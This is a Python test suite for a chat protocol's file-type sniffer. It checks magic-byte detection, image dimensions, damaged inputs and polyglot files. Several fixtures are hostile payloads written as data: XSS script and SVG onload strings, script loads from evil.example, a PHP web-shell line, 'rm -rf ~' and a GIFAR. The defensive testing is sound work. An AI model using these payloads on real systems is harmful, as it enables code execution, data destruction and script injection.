"""The kind of a file, as its first bytes say; hostile bytes above all."""

from __future__ import annotations

import io
import itertools
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from trio_chat.protocol.file_kinds import IMAGES, KINDS, LOOKED_AT, FileKind, is_image, kind_of


def drawn(form: str, width: int = 31, height: int = 17, mode: str = "RGB", **saving: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height)).save(out, form, **saving)
    return out.getvalue()


def told(data: bytes) -> FileKind:
    return kind_of(data[:LOOKED_AT], len(data))


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (drawn("PNG"), "image/png"),
        (drawn("GIF"), "image/gif"),
        (drawn("JPEG"), "image/jpeg"),
        (drawn("JPEG", progressive=True), "image/jpeg"),
        (drawn("WEBP"), "image/webp"),
        (drawn("WEBP", lossless=True), "image/webp"),
        (drawn("WEBP", mode="RGBA", exif=b"Exif\0\0"), "image/webp"),
        (drawn("BMP"), "image/bmp"),
        (drawn("AVIF"), "image/avif"),
    ],
)
def test_an_image_is_told_with_its_sides_as_another_decoder_sees_them(data: bytes, kind: str) -> None:
    assert told(data) == FileKind(kind, 31, 17)
    assert is_image(kind)


@pytest.mark.parametrize("form", ["PNG", "GIF", "JPEG", "WEBP", "BMP", "AVIF"])
def test_a_large_image_is_told_with_its_sides(form: str) -> None:
    assert told(drawn(form, 1234, 2345))[1:] == (1234, 2345)


def test_a_bitmap_whose_rows_come_from_the_top_has_its_height() -> None:
    data = bytearray(drawn("BMP"))
    data[22:26] = (-17).to_bytes(4, "little", signed=True)
    assert told(bytes(data)) == FileKind("image/bmp", 31, 17)


def test_a_photograph_with_its_size_behind_the_bytes_looked_at_has_none() -> None:
    data = drawn("JPEG", exif=b"Exif\0\0" + bytes(60_000))
    assert told(data) == FileKind("image/jpeg", 0, 0)
    short = drawn("JPEG", exif=b"Exif\0\0" + bytes(1_000))
    assert told(short) == FileKind("image/jpeg", 31, 17)


def test_sides_that_cannot_be_are_not_told() -> None:
    data = bytearray(drawn("PNG"))
    data[16:20] = b"\xff\xff\xff\xff"
    assert told(bytes(data)) == FileKind("image/png", 0, 0)
    data[16:20] = bytes(4)
    assert told(bytes(data)) == FileKind("image/png", 0, 0)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"error: no such file\r\n",
        "日本語のログ\n".encode(),
        b"\xef\xbb\xbfwith a mark\n",
        b"\x1b[31mred\x1b[0m\tlog\x08\n",
        b"BMW and BMX are not images of Windows",
        b"GIF88a is no picture either",
        b"%PDF is mentioned",
    ],
)
def test_text_is_told_as_text(data: bytes) -> None:
    assert told(data) == FileKind("text/plain")


def test_text_is_text_wherever_the_beginning_is_cut_off() -> None:
    text = ("x" + "日" * 2000).encode()
    for shift in range(4):
        assert told(b"y" * shift + text).kind == "text/plain"


@pytest.mark.parametrize(
    "data",
    [
        b"caf\xe9 in Latin-1",
        "UTF-16".encode("utf-16"),
        b"text with a NUL \0",
        b"the end is no character \xe6\x97",
        b"\x7fELF\x02\x01\x01" + bytes(50),
        b"MZ\x90\x00\x03",
        b"PK\x03\x04\x14\x00",
        b"\x00asm\x01\x00\x00\x00",
    ],
)
def test_all_else_is_plain_bytes(data: bytes) -> None:
    assert told(data) == FileKind("application/octet-stream")


def test_a_pdf_is_told_only_at_the_first_byte() -> None:
    assert told(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") == FileKind("application/pdf")
    assert told(b"\n%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") == FileKind("application/octet-stream")


@pytest.mark.parametrize(
    "page",
    [
        b"<!DOCTYPE html><script>alert(1)</script>",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>",
        b"<script src=//evil.example></script>",
        b"<?php system($_GET[0]);",
        b"#!/bin/sh\nrm -rf ~\n",
        b"importScripts('//evil.example')",
    ],
)
def test_a_page_or_a_script_is_text_and_never_more(page: bytes) -> None:
    assert told(page) == FileKind("text/plain")


def test_a_file_that_is_two_things_is_told_as_the_harmless_one() -> None:
    script = b"*/=1;alert(1)//<script>alert(1)</script>"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("Applet.class", b"\xca\xfe\xba\xbe")
    assert told(b"GIF89a/*" + bytes(2) + script).kind == "image/gif"
    assert told(drawn("GIF") + archive.getvalue()).kind == "image/gif"  # a GIFAR
    assert told(drawn("JPEG", comment=b"<script>alert(1)</script>")).kind == "image/jpeg"
    assert told(b"%PDF-1.4\n<html><script>alert(1)</script>").kind == "application/pdf"
    assert told(b"<html>%PDF-1.4\n").kind == "text/plain"


@given(st.binary(max_size=200), st.integers(0, 1 << 60))
def test_any_bytes_have_a_kind_and_sides_that_can_be(first: bytes, more: int) -> None:
    _assert_possible(kind_of(first, len(first) + more))


@given(
    st.sampled_from(
        [
            *(drawn(form) for form in ("PNG", "GIF", "JPEG", "WEBP", "BMP", "AVIF")),
            drawn("WEBP", lossless=True),
            drawn("JPEG", exif=b"Exif\0\0" + bytes(500)),
        ]
    ),
    st.lists(st.tuples(st.integers(0, 600), st.integers(0, 255)), max_size=8),
    st.integers(0, 700),
)
def test_a_damaged_image_has_a_kind_and_sides_that_can_be(
    data: bytes, damages: list[tuple[int, int]], length: int
) -> None:
    damaged = bytearray(data)
    for at, value in damages:
        damaged[at % len(damaged)] = value
    _assert_possible(kind_of(bytes(damaged[:length]), len(data)))


def test_an_image_cut_off_anywhere_has_a_kind_and_sides_that_can_be() -> None:
    for form in ("PNG", "GIF", "JPEG", "WEBP", "BMP", "AVIF"):
        data = drawn(form)
        for length in range(len(data)):
            _assert_possible(kind_of(data[:length], len(data)))


def test_segments_without_an_end_are_left_soon() -> None:
    for data in (
        b"\xff\xd8" + b"\xff" * LOOKED_AT,
        b"\xff\xd8" + b"\xff\xe0\0\0" * LOOKED_AT,
        b"\xff\xd8\xff\xd8" * 4000,
    ):
        assert told(data) == FileKind("image/jpeg", 0, 0)


def _assert_possible(found: FileKind) -> None:
    assert found.kind in KINDS
    assert (found.width == 0) == (found.height == 0)
    assert 0 <= found.width < 1 << 32
    assert found.kind in IMAGES or found.width == 0


def test_every_kind_is_a_media_type_without_parameters() -> None:
    for kind, character in itertools.product(KINDS, '; \r\n"'):
        assert character not in kind
